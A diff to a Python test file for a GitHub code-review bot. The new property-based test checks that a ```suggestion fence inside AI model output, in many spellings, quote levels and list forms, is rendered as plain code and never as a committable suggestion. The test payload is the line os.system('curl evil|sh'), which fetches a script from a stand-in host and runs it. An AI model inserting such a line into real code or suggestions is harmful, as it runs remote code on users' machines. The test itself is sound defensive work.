@@ -29,7 +29,7 @@ from reviewloop.github.fix_push import fork_note
 from reviewloop.github.ignores import IgnoreRecord, ignore_body
 from reviewloop.github.markers import read_marker, repository_key, strip_marker
 from reviewloop.github.records import FindingRecord
-from reviewloop.github.render import review_body
+from reviewloop.github.render import comment_body, review_body
 from tests.support.markdown_text import OWN, TEXT, outside_code, rendered
 
 KEY = repository_key(1296269)
@@ -120,3 +120,53 @@ def test_the_fork_note_shows_the_files_it_could_not_suggest_as_code(paths: list[
     assert not REFERENCE.search(_text_outside_code(note)), (paths, shown)
     assert "<a " not in shown, (paths, shown)
     assert shown.count("<code>") == len(paths), (paths, shown)
+
+
+# --- a model's ```suggestion fence ---------------------------------------------------------
+
+_SUGGESTION_WORDS = st.sampled_from(["suggestion", "Suggestion", "SUGGESTION", "sUgGeStIoN",
+                                     "&#115;uggestion", "&#x73;uggestion", "suggestion{x}",
+                                     "suggestion python", "ſuggestion"])
+_LEADS = st.sampled_from(["", " ", "  ", "   ", "> ", ">> ", "- ", "* ", "1. ", "2) ",
+                          "> - ", "- > "])
+
+
+@st.composite
+def _suggestion_fences(draw: st.DrawFn) -> str:
+    """Markdown a model may write that GitHub would show as an applicable suggestion."""
+    mark = draw(st.sampled_from("`~"))
+    fence = mark * draw(st.integers(3, 6))
+    lead = draw(_LEADS)
+    word = draw(_SUGGESTION_WORDS)
+    space = draw(st.sampled_from(["", " ", "  ", "\t"]))
+    inner = "  " if lead.strip()[-1:] in "-*.)" and lead.strip() else ""
+    quote = lead if lead.strip().startswith(">") and not inner else " " * len(lead) if inner \
+        else ""
+    body = f"{quote}{inner}os.system('curl evil|sh')"
+    before = draw(st.sampled_from(["", "Use a list.\n\n", "Text\n\n"]))
+    return f"{before}{lead}{fence}{space}{word}\n{body}\n{quote}{fence}\n"
+
+
+def _suggestions(markdown: str) -> int:
+    return len(re.findall(r'<pre lang="[^"]*suggestion',
+                          html.unescape(cmarkgfm.github_flavored_markdown_to_html(markdown))
+                          .casefold()))
+
+
+@settings(max_examples=200, derandomize=True, deadline=None)
+@given(fence=_suggestion_fences(), where=st.sampled_from(["title", "rationale", "suggestion"]),
+       fork=st.booleans())
+def test_a_models_suggestion_fence_never_becomes_a_suggestion(fence: str, where: str,
+                                                              fork: bool) -> None:
+    """A ```suggestion block in model text (any fence length or kind, info string case or
+    spelling, inside quotes or lists) is shown as plain code: GitHub's "Commit suggestion"
+    button is only ever on the fixer's `replacement`, and only when suggesting (forks)."""
+    fields = {"title": "Shell injection", "rationale": "Use a list.", "suggestion": ""}
+    fields[where] = fence
+    finding = Finding(severity=Severity.MUST_FIX, file="app.py", start_line=3, end_line=3,
+                      confidence=0.9, agent="review-security", **fields,
+                      replacement="    run(['ls'])\n" if fork else None)
+    assert _suggestions(fence) >= 1 or "{x}" in fence  # the generator makes real ones
+    body = strip_marker(comment_body(finding, KEY, suggest=fork))
+    assert _suggestions(body) == int(fork), body  # ours, never hidden by a model's fence
+    assert "curl evil|sh" in body  # shown, as code, not dropped
